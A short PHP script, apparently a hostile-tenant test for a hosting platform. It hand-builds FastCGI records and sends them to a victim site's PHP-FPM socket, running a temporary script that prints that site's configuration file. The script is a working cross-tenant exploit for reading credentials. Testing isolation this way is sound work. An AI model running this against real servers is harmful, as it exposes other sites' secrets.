<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

/** FastCGI 1.0: begin, parameters, no body. */
function record(int $type, string $content): string {
	return pack('CCnnCx', 1, $type, 1, strlen($content), 0) . $content;
}

$script = '/tmp/aipress-hostile.php';
file_put_contents($script, "<?php readfile(getenv('AIPRESS_SITE_CONFIG'));");
chmod($script, 0644);
$pairs = '';
foreach (['REQUEST_METHOD' => 'GET', 'SCRIPT_NAME' => '/x.php', 'SCRIPT_FILENAME' => $script] as $name => $value) {
	$pairs .= chr(strlen($name)) . chr(strlen($value)) . $name . $value;
}
$request = record(1, pack('nCx5', 1, 0)) . record(4, $pairs) . record(4, '') . record(5, '');
echo exchange('unix://' . target()['victim']['socket'], $request);
unlink($script);
